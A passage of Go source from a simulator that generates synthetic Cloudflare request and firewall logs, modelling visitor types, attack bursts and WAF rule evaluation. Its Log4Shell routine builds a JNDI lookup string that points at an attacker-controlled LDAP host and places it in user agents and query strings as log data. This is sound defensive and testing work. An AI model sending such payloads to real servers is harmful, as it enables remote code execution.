package sim

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
)

// The traffic model behind http_requests and firewall_events. It decides,
// request by request, who asks what of which zone and what Cloudflare's
// security rules make of it. Everything firewall_events shows is decided
// here, from one random stream, so that an http_requests generator and a
// firewall_events generator with the same Config see the same requests.
// Details only http_requests shows (byte counts, timings, ports) are drawn
// by the http generator from a stream of its own.

// request is one request as the traffic model decided it. Strings that vary
// per request live in buf; the struct is reused.
type request struct {
	buf []byte

	z       *zone
	ep      *endpoint // nil for probes
	v       *visitor
	net     *network
	ip      netip.Addr
	ipClass string
	ag      *agent
	tls     *tlsProfile
	ja3     string
	colo    *colo

	role      hostRole
	host      string
	method    string
	scheme    string // https, or http for a request the edge redirects
	proto     string
	path      []byte
	query     []byte // with its leading '?', or empty
	ua        []byte
	referer   []byte
	ctype     string
	class     epClass
	cache     cachePolicy
	size      int
	compress  bool
	label     string
	opID      string
	xrw       bool // X-Requested-With: XMLHttpRequest
	cond      bool // a conditional request (If-None-Match)
	redirect  bool // plain http: the edge answers 301
	rayID     uint64
	parentRay uint64 // worker subrequests: the request that ran the Worker
	workerRun bool   // this request ran the zone's Worker
	sub       bool   // this is the Worker's subrequest

	originWants int // what the origin answers if the request gets there

	// Bot management and WAF.
	botScore int
	botSrc   string
	botCat   string
	js       string
	botTags  []string
	detIDs   []int
	attack   attackClass
	probe    *probe
	wafSQLi  int
	wafXSS   int
	wafRCE   int
	leaked   string

	// Rule matches in evaluation order; term is the terminating one or -1.
	matches []match
	term    int

	// Outcome.
	status       int    // EdgeResponseStatus
	originStatus int    // OriginResponseStatus (0: no origin response)
	originTried  bool   // the edge connected (or tried to) to the origin
	cacheStatus  string // CacheCacheStatus
}

type match struct {
	rule       *rule
	act        action
	originator uint64 // for solved challenges: the RayID of the challenged request
}

func (r *request) waf() int { return min(r.wafSQLi, r.wafXSS, r.wafRCE) }

func (r *request) country() string { return r.net.country }

// visitor is a client: one IP, one user agent, one browsing habit.
type visitor struct {
	kind     visitorKind
	net      *network
	ip       netip.Addr
	ipClass  string
	ag       *agent
	tls      *tlsProfile
	ja3      string
	colo     *colo
	zone     *zone
	score    int
	scoreSrc string

	// Session state.
	left       int    // pages (or calls, probes) left
	assets     int    // sub-resources left for the current page
	page       []byte // URL of the current page, the referer of what follows
	atLogin    bool
	retry      *endpoint // re-issue this (after a redirect or a solved challenge)
	retryPath  []byte
	retryQuery []byte
	retryMeth  string
	pending    *rule  // the rule that challenged the last request
	pendingRay uint64 // and that request's RayID
	cleared    bool   // solved a challenge: has a clearance cookie
	loginPosts int
	seen       int  // requests so far; later asset requests are often conditional
	busy       bool // in a session right now
}

type burstKind uint8

const (
	bkBruteForce burstKind = iota
	bkVulnScan
	bkCredStuffing
	bkLog4Shell
)

type burst struct {
	kind    burstKind
	left    int
	share   float64 // chance that a step belongs to the burst
	z       *zone
	v       *visitor   // the attacker (single-IP bursts)
	proxies []*visitor // credential stuffing: rotating residential proxies
	step    int
	payload []byte // Log4Shell JNDI string
}

type traffic struct {
	r         *rand.Rand
	zones     []*zone
	zoneTotal int
	pool      []*visitor // returning clients; filled lazily
	active    []*visitor // clients in the middle of a session
	burst     *burst
	burstP    float64
	req, sub  request
	subQueued bool
}

const (
	poolSize            = 6000
	activeSize          = 48
	defaultAttackBursts = 4.0 // attack bursts per 100,000 requests
)

func newTraffic(cfg Config) (*traffic, error) {
	tr := &traffic{r: newRand(cfg.Seed, 1)}
	if len(cfg.Zones) == 0 {
		tr.zones = allZones
	}
	for _, name := range cfg.Zones {
		z := zoneByName[name]
		if z == nil {
			return nil, fmt.Errorf("unknown zone %q (have %v)", name, Zones())
		}
		tr.zones = append(tr.zones, z)
	}
	for _, z := range tr.zones {
		tr.zoneTotal += z.weight
	}
	bursts := cfg.AttackBursts
	if bursts == 0 {
		bursts = defaultAttackBursts
	}
	if bursts > 0 {
		tr.burstP = bursts / 100000
	}
	tr.pool = make([]*visitor, poolSize)
	tr.active = make([]*visitor, activeSize)
	for i := range tr.active {
		tr.active[i] = tr.newSession()
	}
	return tr, nil
}

func (tr *traffic) pickZone() *zone {
	x := tr.r.IntN(tr.zoneTotal)
	for _, z := range tr.zones {
		if x < z.weight {
			return z
		}
		x -= z.weight
	}
	return tr.zones[0]
}

func (tr *traffic) hasZone(kind siteKind) *zone {
	for _, z := range tr.zones {
		if z.kind == kind {
			return z
		}
	}
	return nil
}

// newVisitor makes a client of kind k.
func (tr *traffic) newVisitor(k visitorKind) *visitor {
	r := tr.r
	v := &visitor{kind: k}
	switch k {
	case vkHuman:
		switch x := r.IntN(1000); {
		case x < 5:
			v.net, v.ag = networkByKey["tor"], torBrowser
		case x < 25:
			v.net = networkByKey["warp"]
		case x < 380:
			v.net = pickNetwork(r, nkMobile)
			v.ag = pickAgent(r, vkHuman, "mobile")
		default:
			v.net = pickNetwork(r, nkResidential)
		}
		if v.ag == nil {
			device := "desktop"
			if x := r.IntN(100); x < 33 {
				device = "mobile"
			} else if x < 37 {
				device = "tablet"
			}
			v.ag = pickAgent(r, vkHuman, device)
		}
	case vkCrawler, vkMonitor:
		v.ag = pickAgent(r, k, "")
		v.net = networkByKey[v.ag.network]
	case vkAPIClient:
		v.ag = pickAgent(r, k, "")
		if v.ag.device == "mobile" {
			v.net = pickNetwork(r, nkMobile, nkResidential)
		} else if v.ag.xhr {
			v.net = pickNetwork(r, nkResidential)
		} else {
			v.net = pickNetwork(r, nkHosting)
		}
	case vkTool:
		v.ag = pickAgent(r, k, "")
		v.net = pickNetwork(r, nkHosting, nkResidential)
	case vkScanner:
		v.ag = pickAgent(r, k, "")
		v.net = pickNetwork(r, nkScanner, nkHosting)
	case vkAttacker:
		v.ag = pickAgent(r, vkAttacker, "")
		v.net = pickNetwork(r, nkHosting)
	}
	v.tls = v.ag.tls
	share := v.net.v6Share
	if share == 0 && k == vkHuman {
		share = 0.35
	}
	v.ip = v.net.randomAddr(r, share)
	v.ipClass = v.net.ipClass
	if k == vkMonitor {
		v.ipClass = "monitoringService"
	}
	v.colo = colos[v.net.colos[0]]
	if len(v.net.colos) > 1 && r.IntN(10) == 0 {
		v.colo = colos[v.net.colos[1]]
	}
	v.ja3 = v.tls.ja3
	if v.ja3 == "" {
		v.ja3 = string(appendHex(appendHex(nil, r.Uint64(), 8), r.Uint64(), 8))
	}
	v.score, v.scoreSrc = v.ag.scoreLo, v.ag.scoreSrc
	if v.ag.scoreHi > v.ag.scoreLo {
		v.score = v.ag.scoreLo + r.IntN(v.ag.scoreHi-v.ag.scoreLo+1)
	}
	if k == vkHuman {
		// Most people score high; a few look like bots to the model.
		switch x := r.IntN(100); {
		case x < 3:
			v.score = 8 + r.IntN(21)
		case x < 20:
			v.score, v.scoreSrc = 90+r.IntN(10), srcJS
		case x < 25:
			v.score, v.scoreSrc = 70+r.IntN(30), srcBehavior
		default:
			v.score = 60 + r.IntN(40)
			if r.IntN(4) == 0 {
				v.score = 30 + r.IntN(60)
			}
		}
	}
	v.zone = tr.pickZone()
	if k == vkAPIClient {
		// Apps talk to the shop's API; scripts and SDKs to the SaaS API.
		want := siteSaaS
		if v.ag.device == "mobile" && !strings.HasPrefix(v.ag.ua, "Dart") {
			want = siteShop
		}
		if z := tr.hasZone(want); z != nil {
			v.zone = z
		} else if z := tr.hasZone(siteShop); z != nil {
			v.zone = z
		}
	}
	return v
}

// newSession picks a client (often a returning one) and starts a session.
func (tr *traffic) newSession() *visitor {
	r := tr.r
	var k visitorKind
	switch x := r.IntN(1000); {
	case x < 700:
		k = vkHuman
	case x < 790:
		k = vkCrawler
	case x < 805:
		k = vkMonitor
	case x < 900:
		k = vkAPIClient
	case x < 930:
		k = vkTool
	default:
		k = vkScanner
	}
	// Returning clients: a skewed pick from a pool per kind, so some IPs are
	// regulars (crawlers, monitors, busy API clients) and most are seen once
	// or twice.
	span := poolSize / int(numVisitorKinds)
	u := r.Float64()
	if k != vkHuman && k != vkScanner {
		u = u * u * u // crawlers, monitors and API clients have regulars
	}
	idx := int(k)*span + int(float64(span)*u)
	v := tr.pool[idx]
	switch {
	case v == nil:
		v = tr.newVisitor(k)
		tr.pool[idx] = v
	case v.busy:
		v = tr.newVisitor(k) // already in a session: someone new instead
	}
	v.busy = true
	v.cleared, v.pending, v.retry, v.atLogin, v.loginPosts = false, nil, nil, false, 0
	v.assets, v.seen = 0, 0
	v.page = v.page[:0]
	switch k {
	case vkHuman:
		v.left = 1 + geometric(r, 0.35, 14)
		if v.zone.kind == siteSaaS && r.IntN(3) > 0 {
			v.left += 4 + r.IntN(10)
		}
	case vkCrawler:
		v.left = 3 + r.IntN(30)
		v.zone = tr.pickZone()
	case vkMonitor:
		v.left = 1
	case vkAPIClient:
		v.left = 2 + geometric(r, 0.15, 40)
	case vkTool:
		v.left = 1 + r.IntN(3)
		v.zone = tr.pickZone()
	case vkScanner:
		v.left = 1 + r.IntN(8)
		v.zone = tr.pickZone()
	}
	return v
}

// geometric returns a geometrically distributed count with success
// probability p, capped.
func geometric(r *rand.Rand, p float64, max int) int {
	n := 0
	for n < max && r.Float64() > p {
		n++
	}
	return n
}

// next returns the next request. The returned request is valid until the
// next call.
func (tr *traffic) next() *request {
	if tr.subQueued {
		tr.subQueued = false
		return &tr.sub
	}
	r := &tr.req
	r.reset()
	r.rayID = tr.r.Uint64()&0x0fffffffffffffff | 0x8000000000000000
	if tr.burst == nil && tr.burstP > 0 && tr.r.Float64() < tr.burstP {
		tr.startBurst()
	}
	if b := tr.burst; b != nil && tr.r.Float64() < b.share {
		tr.burstStep(b, r)
		if b.left--; b.left <= 0 {
			tr.burst = nil
		}
	} else {
		i := tr.r.IntN(len(tr.active))
		v := tr.active[i]
		tr.visitorStep(v, r)
		if v.left <= 0 && v.assets <= 0 && v.retry == nil {
			v.busy = false
			tr.active[i] = tr.newSession()
		}
	}
	tr.evaluate(r)
	tr.outcome(r)
	if r.workerRun {
		tr.buildSubrequest(r)
	}
	return r
}

func (r *request) reset() {
	buf, matches := r.buf[:0], r.matches[:0]
	*r = request{buf: buf, matches: matches, term: -1}
}

// setClient copies the client's identity into the request.
func (r *request) setClient(v *visitor) {
	r.v, r.net, r.ip, r.ipClass, r.ag, r.tls, r.ja3, r.colo = v, v.net, v.ip, v.ipClass, v.ag, v.tls, v.ja3, v.colo
	r.botScore, r.botSrc, r.botCat, r.js = v.score, v.scoreSrc, v.ag.category, v.ag.js
	r.botTags, r.detIDs = v.ag.botTags, v.ag.detIDs
	r.ua = r.strs(v.ag.ua)
	v.seen++
}

// str appends s to the request's arena and returns the stored copy.
func (r *request) str(s []byte) []byte {
	start := len(r.buf)
	r.buf = append(r.buf, s...)
	return r.buf[start:len(r.buf):len(r.buf)]
}

// strs stores the concatenation of parts in the arena.
func (r *request) strs(parts ...string) []byte {
	start := len(r.buf)
	for _, p := range parts {
		r.buf = append(r.buf, p...)
	}
	return r.buf[start:len(r.buf):len(r.buf)]
}

// setEndpoint fills host, method and URL from an endpoint of zone z.
func (tr *traffic) setEndpoint(r *request, z *zone, e *endpoint) {
	r.z, r.ep = z, e
	r.role, r.method, r.ctype, r.class, r.cache, r.size, r.compress = e.host, e.method, e.ctype, e.class, e.cache, e.size, e.compress
	r.label, r.opID = e.label, e.opID
	r.host = z.hosts[e.host]
	start := len(r.buf)
	r.buf = z.fillTemplate(r.buf, tr.r, e)
	tr.splitURL(r, start)
	r.size = r.size/2 + tr.r.IntN(r.size+1)
}

// splitURL turns buf[start:] (a path with an optional query) into r.path
// and r.query.
func (tr *traffic) splitURL(r *request, start int) {
	u := r.buf[start:len(r.buf):len(r.buf)]
	if i := bytes.IndexByte(u, '?'); i >= 0 {
		r.path, r.query = u[:i:i], u[i:]
	} else {
		r.path, r.query = u, nil
	}
}

func (tr *traffic) setProbe(r *request, z *zone, p *probe) {
	r.z, r.probe = z, p
	r.role, r.host, r.method = hMain, z.hosts[hMain], p.method
	r.ctype, r.class, r.cache, r.size, r.compress = ctHTML, epMissing, cacheDynamic, 1200+tr.r.IntN(4000), true
	start := len(r.buf)
	r.buf = append(r.buf, p.path...)
	tr.splitURL(r, start)
	r.originWants = p.status
	r.attack = p.class
	if p.status == 200 && p.path == "/robots.txt" {
		r.ctype, r.class, r.cache = ctText, epRobots, cacheStatic
	}
	if p.status == 200 && p.path == "/favicon.ico" {
		r.ctype, r.class, r.cache = ctIcon, epAsset, cacheStatic
	}
}

// pageURL stores "https://host/path?query" of the current request as the
// visitor's current page.
func (v *visitor) setPage(r *request) {
	v.page = append(v.page[:0], "https://"...)
	v.page = append(v.page, r.host...)
	v.page = append(v.page, r.path...)
	v.page = append(v.page, r.query...)
}

var externalReferers = []string{
	"https://www.google.com/", "https://www.google.com/", "https://www.google.com/", "https://www.google.co.uk/", "https://www.google.de/",
	"https://www.bing.com/", "https://duckduckgo.com/", "https://t.co/", "https://www.facebook.com/", "https://l.instagram.com/",
	"https://www.reddit.com/", "https://www.linkedin.com/", "https://news.ycombinator.com/", "android-app://com.google.android.gm/",
}

func (tr *traffic) visitorStep(v *visitor, r *request) {
	r.setClient(v)
	if v.retry != nil {
		tr.setEndpoint(r, v.zone, v.retry)
		r.method = v.retryMeth
		start := len(r.buf)
		r.buf = append(r.buf, v.retryPath...)
		r.buf = append(r.buf, v.retryQuery...)
		tr.splitURL(r, start)
		v.retry = nil
		r.referer = r.str(v.page)
		if v.kind == vkHuman && r.class == epPage {
			v.setPage(r)
			v.assets = 4 + tr.r.IntN(10)
		}
		tr.originAnswer(r)
		return
	}
	switch v.kind {
	case vkHuman:
		tr.humanStep(v, r)
	case vkCrawler:
		tr.crawlerStep(v, r)
	case vkMonitor:
		tr.monitorStep(v, r)
	case vkAPIClient:
		tr.apiStep(v, r)
	case vkTool:
		tr.toolStep(v, r)
	case vkScanner:
		tr.scannerStep(v, r)
	}
}

func (tr *traffic) humanStep(v *visitor, r *request) {
	rnd, z := tr.r, v.zone
	if v.assets > 0 && len(v.page) > 0 {
		v.assets--
		tr.setEndpoint(r, z, pickEndpoint(rnd, z.assets))
		r.referer = r.str(v.page)
		r.cond = v.seen > 8 && rnd.IntN(4) == 0
		r.xrw = r.class == epAPI && r.method != "GET" && rnd.IntN(2) == 0
		tr.originAnswer(r)
		return
	}
	v.left--
	e := pickEndpoint(rnd, z.pages)
	for (e.class == epLogin && !v.atLogin) || (e.class == epAdmin && z.kind == siteBlog && v.net.country != "us" && rnd.IntN(4) > 0) {
		e = pickEndpoint(rnd, z.pages)
	}
	if v.atLogin && z.formLogin != nil && rnd.IntN(3) > 0 {
		e = z.formLogin // submits the form it was shown
	}
	tr.setEndpoint(r, z, e)
	if len(v.page) == 0 {
		// Landing: a search engine, a link, or typed in.
		switch x := rnd.IntN(100); {
		case x < 45:
			r.referer = r.strs(externalReferers[rnd.IntN(len(externalReferers))])
		case x < 55 && r.method == "GET" && len(r.query) == 0:
			start := len(r.buf)
			r.buf = append(r.buf, "?utm_source=newsletter&utm_medium=email&utm_campaign="...)
			r.buf = append(r.buf, wCats[rnd.IntN(len(wCats))]...)
			r.query = r.buf[start:len(r.buf):len(r.buf)]
		}
		if rnd.IntN(40) == 0 && r.method == "GET" {
			r.redirect, r.scheme = true, "http"
			v.retry, v.retryMeth = e, r.method
			v.retryPath = append(v.retryPath[:0], r.path...)
			v.retryQuery = append(v.retryQuery[:0], r.query...)
			v.left++
		}
	} else {
		r.referer = r.str(v.page)
	}
	v.atLogin = bytes.Contains(r.path, []byte("login")) && r.method == "GET"
	if r.class == epLogin {
		v.loginPosts++
		r.leaked = pickLeaked(rnd, false)
	}
	if !r.redirect {
		v.setPage(r)
		if v.seen <= 2 {
			v.assets = 4 + rnd.IntN(10)
		} else {
			v.assets = rnd.IntN(5)
		}
	}
	tr.originAnswer(r)
}

func pickLeaked(r *rand.Rand, stuffing bool) string {
	x := r.IntN(100)
	if stuffing {
		switch {
		case x < 20:
			return "username_and_password_leaked"
		case x < 35:
			return "password_leaked"
		case x < 40:
			return "username_leaked"
		}
		return "clean"
	}
	switch {
	case x < 4:
		return "password_leaked"
	case x < 7:
		return "username_password_similar"
	case x < 9:
		return "username_leaked"
	}
	return "clean"
}

func (tr *traffic) crawlerStep(v *visitor, r *request) {
	rnd, z := tr.r, v.zone
	v.left--
	switch {
	case v.seen == 1 && rnd.IntN(3) == 0: // the session's first request
		tr.setEndpoint(r, z, epRobotsTxt)
	case rnd.IntN(25) == 0:
		tr.setEndpoint(r, z, epSitemap)
	case strings.HasPrefix(v.ag.ua, "Googlebot-Image"):
		tr.setEndpoint(r, z, pickEndpoint(rnd, z.assets))
	default:
		e := pickEndpoint(rnd, z.pages)
		for e.method != "GET" || e.class == epAdmin {
			e = pickEndpoint(rnd, z.pages)
		}
		tr.setEndpoint(r, z, e)
	}
	tr.originAnswer(r)
	if rnd.IntN(20) == 0 && r.originWants == 200 {
		r.originWants = 404 // a stale URL from an old sitemap
	}
}

func (tr *traffic) monitorStep(v *visitor, r *request) {
	rnd, z := tr.r, v.zone
	v.left--
	var health *endpoint
	for _, e := range z.apis {
		if e.class == epHealth {
			health = e
		}
	}
	switch {
	case health != nil && rnd.IntN(2) == 0:
		tr.setEndpoint(r, z, health)
	case strings.Contains(v.ag.ua, "UptimeRobot"):
		tr.setEndpoint(r, z, epHomeHead)
	default:
		tr.setEndpoint(r, z, epHomeGet)
	}
	tr.originAnswer(r)
}

func (tr *traffic) apiStep(v *visitor, r *request) {
	rnd, z := tr.r, v.zone
	v.left--
	eps := z.apis
	if v.ag.xhr {
		eps = z.xhr
	}
	e := pickEndpoint(rnd, eps)
	if e.method == "OPTIONS" && !v.ag.xhr {
		e = pickEndpoint(rnd, z.apis)
	}
	tr.setEndpoint(r, z, e)
	if v.ag.xhr {
		r.xrw = rnd.IntN(3) > 0
		if z.hosts[hApp] != "" {
			r.referer = r.strs("https://", z.hosts[hApp], "/dashboard")
		} else {
			r.referer = r.strs("https://", z.hosts[hMain], "/")
		}
	}
	if r.class == epLogin {
		v.loginPosts++
		r.leaked = pickLeaked(rnd, false)
	}
	tr.originAnswer(r)
}

func (tr *traffic) toolStep(v *visitor, r *request) {
	rnd, z := tr.r, v.zone
	v.left--
	switch rnd.IntN(4) {
	case 0:
		tr.setEndpoint(r, z, epHomeHead)
	case 1:
		tr.setEndpoint(r, z, epHomeGet)
	default:
		e := pickEndpoint(rnd, z.pages)
		for e.method != "GET" {
			e = pickEndpoint(rnd, z.pages)
		}
		tr.setEndpoint(r, z, e)
	}
	tr.originAnswer(r)
}

func (tr *traffic) scannerStep(v *visitor, r *request) {
	rnd := tr.r
	v.left--
	p := &probes[rnd.IntN(len(probes))]
	tr.setProbe(r, v.zone, p)
	if rnd.IntN(6) == 0 {
		r.scheme = "http"
		r.redirect = true
	}
}

// originAnswer decides what the origin would answer to r.
func (tr *traffic) originAnswer(r *request) {
	rnd := tr.r
	x := rnd.IntN(10000)
	switch r.class {
	case epMissing:
		r.originWants = 404
	case epAsset, epRobots:
		r.originWants = 200
		if x < 60 {
			r.originWants = 404
		}
	case epAPI:
		r.originWants = apiStatus(r.method, x)
	case epHealth:
		r.originWants = 200
		if x < 30 {
			r.originWants = 503
		}
	case epLogin:
		switch {
		case r.ctype == ctJSON && x < 1500:
			r.originWants = 401
		case r.ctype == ctJSON:
			r.originWants = 200
		case x < 1500 || r.z.kind == siteBlog:
			r.originWants = 200 // the form again, with an error
		default:
			r.originWants = 302
		}
	default:
		switch {
		case x < 250:
			r.originWants = 404
		case x < 350:
			r.originWants = 301
		case x < 400:
			r.originWants = 302
		case x < 420:
			r.originWants = 500
		case x < 430:
			r.originWants = 502
		case x < 440:
			r.originWants = 503
		case x < 445:
			r.originWants = 504
		default:
			r.originWants = 200
		}
	}
}

func apiStatus(method string, x int) int {
	switch {
	case x < 200:
		return 400
	case x < 500:
		return 401
	case x < 600:
		return 403
	case x < 800:
		return 404
	case x < 850:
		return 409
	case x < 950:
		return 422
	case x < 1000:
		return 429
	case x < 1040:
		return 500
	case x < 1070:
		return 502
	case x < 1090:
		return 503
	case x < 1100:
		return 504
	}
	switch method {
	case "POST":
		if x < 4000 {
			return 201
		}
	case "DELETE", "OPTIONS":
		return 204
	}
	return 200
}

// Attack bursts.

func (tr *traffic) startBurst() {
	rnd := tr.r
	b := &burst{}
	switch x := rnd.IntN(100); {
	case x < 40:
		b.kind = bkBruteForce
	case x < 70:
		b.kind = bkVulnScan
	case x < 90:
		b.kind = bkCredStuffing
	default:
		b.kind = bkLog4Shell
	}
	switch b.kind {
	case bkBruteForce:
		b.z = tr.hasZone(siteBlog)
		if b.z == nil {
			b.z = tr.zoneWithLogin()
		}
		if b.z == nil {
			return
		}
		b.v = tr.newVisitor(vkAttacker)
		if rnd.IntN(3) > 0 {
			b.v.ag = agentByUA("Firefox/115.0")
			if rnd.IntN(2) == 0 {
				b.v.ag = agentByUA("python-requests/2.31.0")
			}
			b.v.tls = b.v.ag.tls
			b.v.score, b.v.scoreSrc = 1+rnd.IntN(5), srcML
		}
		b.left, b.share = 300+rnd.IntN(1200), 0.4
	case bkVulnScan:
		b.z = tr.pickZone()
		b.v = tr.newVisitor(vkAttacker)
		b.left, b.share = 150+rnd.IntN(450), 0.25
	case bkCredStuffing:
		b.z = tr.zoneWithLogin()
		if b.z == nil {
			return
		}
		for range 24 {
			p := tr.newVisitor(vkHuman)
			p.kind = vkAttacker
			p.tls = tlsPython // a browser UA on a Python TLS stack
			p.ja3 = tlsPython.ja3
			p.score, p.scoreSrc = 1+rnd.IntN(14), srcML
			if rnd.IntN(10) == 0 {
				p.score = 30 + rnd.IntN(20) // the model misses a few
			}
			b.proxies = append(b.proxies, p)
		}
		b.left, b.share = 200+rnd.IntN(800), 0.3
	case bkLog4Shell:
		b.v = tr.newVisitor(vkAttacker)
		b.v.ag = agentByUA("zgrab")
		b.payload = fmt.Appendf(nil, "${jndi:ldap://%s:1389/Basic/Command/Base64/", b.v.ip)
		b.payload = appendHex(b.payload, rnd.Uint64(), 8)
		b.payload = append(b.payload, '}')
		b.left, b.share = 30+rnd.IntN(90), 0.3
	}
	tr.burst = b
}

func (tr *traffic) zoneWithLogin() *zone {
	for _, k := range []siteKind{siteShop, siteSaaS, siteBlog} {
		if z := tr.hasZone(k); z != nil && z.login != nil {
			return z
		}
	}
	return nil
}

func (tr *traffic) burstStep(b *burst, r *request) {
	rnd := tr.r
	b.step++
	switch b.kind {
	case bkBruteForce:
		v := b.v
		r.setClient(v)
		switch {
		case b.z.kind == siteBlog && (b.step == 1 || rnd.IntN(40) == 0):
			tr.setEndpoint(r, b.z, b.z.find("GET", "/wp-login.php"))
		case b.z.kind == siteBlog && rnd.IntN(12) == 0:
			tr.setProbe(r, b.z, &probeXMLRPC)
		default:
			tr.setEndpoint(r, b.z, b.z.login)
			v.loginPosts++
			r.leaked = pickLeaked(rnd, true)
			if b.z.kind == siteBlog {
				r.referer = r.strs("https://", b.z.hosts[hMain], "/wp-login.php")
			}
		}
		tr.originAnswer(r)
		if r.class == epLogin && r.originWants == 302 {
			r.originWants = 200 // wrong password
		}
		if r.class == epLogin && r.originWants == 200 && r.ctype == ctJSON {
			r.originWants = 401
		}
	case bkVulnScan:
		r.setClient(b.v)
		p := &probes[rnd.IntN(len(probes))]
		if rnd.IntN(3) == 0 { // sqlmap and XSS payload runs
			cls := []attackClass{acSQLi, acXSS, acTraversal, acRCE}[rnd.IntN(4)]
			p = &probes[probesByClass[cls][rnd.IntN(len(probesByClass[cls]))]]
		}
		tr.setProbe(r, b.z, p)
	case bkCredStuffing:
		v := b.proxies[rnd.IntN(len(b.proxies))]
		r.setClient(v)
		tr.setEndpoint(r, b.z, b.z.login)
		v.loginPosts++
		r.leaked = pickLeaked(rnd, true)
		tr.originAnswer(r)
		if r.originWants == 200 && rnd.IntN(20) > 0 {
			r.originWants = 401
			if r.ctype != ctJSON {
				r.originWants = 200
			}
		}
	case bkLog4Shell:
		r.setClient(b.v)
		z := tr.pickZone()
		tr.setEndpoint(r, z, epHomeGet)
		r.class = epPage
		if rnd.IntN(3) == 0 {
			r.class = epMissing
			start := len(r.buf)
			r.buf = append(r.buf, "?x="...)
			r.buf = append(r.buf, bytes.ReplaceAll(bytes.ReplaceAll(b.payload, []byte("${"), []byte("%24%7B")), []byte("}"), []byte("%7D"))...)
			r.query = r.buf[start:len(r.buf):len(r.buf)]
		}
		r.ua = r.str(b.payload)
		r.attack = acLog4j
		tr.originAnswer(r)
	}
}

var probeXMLRPC = probe{"POST", "/xmlrpc.php", acNone, nil, 200}

// find returns the zone's endpoint with this method and path template.
func (z *zone) find(method, raw string) *endpoint {
	for _, list := range [][]*endpoint{z.pages, z.assets, z.apis} {
		for _, e := range list {
			if e.method == method && e.raw == raw {
				return e
			}
		}
	}
	panic("sim: no endpoint " + method + " " + raw + " in " + z.Name)
}

// agentByUA returns the first agent whose UA contains s.
func agentByUA(s string) *agent {
	for _, a := range agents {
		if strings.Contains(a.ua, s) {
			return a
		}
	}
	panic("sim: no agent " + s)
}

// buildSubrequest queues the Worker's fetch to the origin as its own
// request, the way Cloudflare logs it.
func (tr *traffic) buildSubrequest(parent *request) {
	s := &tr.sub
	s.reset()
	s.rayID = tr.r.Uint64()&0x0fffffffffffffff | 0x8000000000000000
	s.parentRay, s.sub = parent.rayID, true
	s.z, s.ep, s.v, s.role, s.host, s.method, s.scheme, s.proto = parent.z, parent.ep, parent.v, parent.role, parent.host, parent.method, "https", "HTTP/1.1"
	s.net = networkByKey["workers"]
	s.ip, s.ipClass, s.ag, s.tls, s.ja3, s.colo = s.net.parsed6[0], s.net.ipClass, parent.ag, tlsNone, "", parent.colo
	s.path, s.query, s.ua = s.str(parent.path), s.str(parent.query), s.str(parent.ua)
	s.ctype, s.class, s.cache, s.size, s.compress = parent.ctype, parent.class, parent.cache, parent.size, parent.compress
	s.botScore, s.botSrc, s.js = 0, srcNone, "missing"
	s.wafSQLi, s.wafXSS, s.wafRCE = parent.wafSQLi, parent.wafXSS, parent.wafRCE
	s.status, s.originStatus, s.originTried, s.cacheStatus = parent.originStatus, parent.originStatus, true, "dynamic"
	if s.status == 0 {
		s.status = 502
	}
	parent.originStatus, parent.originTried = 0, false
	tr.subQueued = true
}

// Security: the rule chain. Cloudflare evaluates the phases in order and
// stops at the first terminating action: browser integrity check, custom
// rules, rate limiting rules, the managed ruleset, security level.

func (tr *traffic) evaluate(r *request) {
	rnd := tr.r
	// WAF attack scores (1 = attack, 99 = clean).
	r.wafSQLi, r.wafXSS, r.wafRCE = 60+rnd.IntN(40), 60+rnd.IntN(40), 60+rnd.IntN(40)
	switch r.attack {
	case acSQLi:
		r.wafSQLi = 1 + rnd.IntN(12)
	case acXSS:
		r.wafXSS = 1 + rnd.IntN(10)
	case acRCE, acLog4j, acTraversal:
		r.wafRCE = 1 + rnd.IntN(15)
	case acDisclosure:
		r.wafRCE = 30 + rnd.IntN(40)
	}
	v := r.v
	if r.sub || r.redirect || v == nil {
		return // Always Use HTTPS redirects before the security phases run
	}
	zr := &r.z.rules
	add := func(ru *rule, a action) bool {
		if a == actManagedChallenge && v.cleared {
			return false // has a clearance cookie
		}
		if a == actManagedChallenge && v.pending == ru {
			// The retry after a solved challenge.
			solved := actMCSolved
			if rnd.IntN(6) == 0 {
				solved = actMCInteractiveSolved
			}
			r.matches = append(r.matches, match{rule: ru, act: solved, originator: v.pendingRay})
			v.pending, v.cleared = nil, true
			return false
		}
		r.matches = append(r.matches, match{rule: ru, act: a})
		if a.terminating() {
			r.term = len(r.matches) - 1
			return true
		}
		return false
	}

	if len(r.ua) == 0 && add(ruleBIC, actBlock) {
		return
	}
	// Custom rules.
	if zr.skipMonitors != nil && v.kind == vkMonitor {
		add(zr.skipMonitors, actSkip)
		return // skips everything after it
	}
	if zr.torAPI != nil && r.ipClass == "tor" && r.role == hAPI && add(zr.torAPI, actBlock) {
		return
	}
	if zr.aiBlock != nil && (r.botCat == "AI Crawler" || r.ag.network == "bytedance") && add(zr.aiBlock, actBlock) {
		return
	}
	if zr.xmlrpc != nil && string(r.path) == "/xmlrpc.php" && add(zr.xmlrpc, actBlock) {
		return
	}
	if zr.hostingSearch != nil && string(r.path) == "/search" && hostingASNs[r.net.asn] && add(zr.hostingSearch, actChallenge) {
		return
	}
	if zr.wpAdmin != nil && bytes.HasPrefix(r.path, []byte("/wp-admin")) && string(r.path) != "/wp-admin/admin-ajax.php" && r.country() != "us" && r.country() != "gb" && add(zr.wpAdmin, actManagedChallenge) {
		return
	}
	if zr.botLogin != nil && (r.class == epLogin || r.label == "cf-check-out") && r.botScore < 30 && r.botCat == "" && add(zr.botLogin, actManagedChallenge) {
		return
	}
	if zr.logAttack != nil && r.waf() <= 20 {
		add(zr.logAttack, actLog)
	}
	// Rate limiting: the counter allows 5 posts, then blocks for the
	// mitigation period (about 40 attempts at brute-force speed), then
	// counts again.
	if zr.loginRL != nil && r.class == epLogin && (v.loginPosts-1)%45 >= 5 && add(zr.loginRL, actBlock) {
		return
	}
	// Managed rules.
	mr := (*rule)(nil)
	switch {
	case r.attack == acLog4j && len(r.query) > 0:
		mr = mrLog4jURL
	case r.attack == acLog4j:
		mr = mrLog4jHdr
	case r.probe != nil:
		mr = r.probe.rule
	}
	if mr != nil {
		a := actBlock
		if r.z.logOnly {
			a = actLog
		}
		if add(mr, a) {
			return
		}
	}
	// Security level: challenge bad reputation.
	if (r.ipClass == "tor" || r.ipClass == "badHost") && r.botCat == "" {
		add(ruleSecLevel, actManagedChallenge)
	}
}

var hostingASNs = map[int]bool{14061: true, 16276: true, 24940: true, 20473: true, 45090: true, 37963: true, 36352: true, 9009: true, 14618: true, 16509: true}

// outcome settles status, cache and origin fields after the rules ran.
func (tr *traffic) outcome(r *request) {
